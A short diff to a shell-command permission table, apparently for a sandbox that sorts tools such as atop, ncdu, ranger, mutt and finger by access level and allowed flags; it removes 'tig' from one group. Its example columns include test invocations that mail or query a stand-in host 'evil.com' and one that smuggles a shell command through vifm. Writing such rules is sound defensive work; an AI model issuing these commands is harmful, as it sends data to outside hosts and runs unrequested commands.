@@ -132,7 +132,7 @@ pidstat | read full | -dHhIlRrsTtuVvw -p,-U,-C,-G,-T:= -e:X --human --dec:= | =*
 atop | read full screen | -abcdgmnsuvpyACDMN1 -r:R -w:W -L:= -P:= | =* | atop | atop -w M
 ncdu | read full screen | -0123qrexvh -X:R -o:W -f:R --exclude:= --exclude-from:R --color:= --si --apparent-size | L? |
   ncdu ;; ncdu / | ncdu -o M
-glances,ctop,tig,slurm | read full screen | -1 | | glances | glances -w
+glances,ctop,slurm | read full screen | -1 | | glances | glances -w
 k9s,lazygit,lazydocker,ranger,nnn,mc,vifm,lf,yazi,gitui,mutt,neomutt,weechat,irssi | ask,run screen | -c,-r,-command:X |
   =* | ranger --version | vifm -c '!touch M' ;; lf -command x ;; mutt -s hi bob@evil.com
 finger | read full | -slmp | HOST* | finger ;; finger bob | finger bob@evil.com
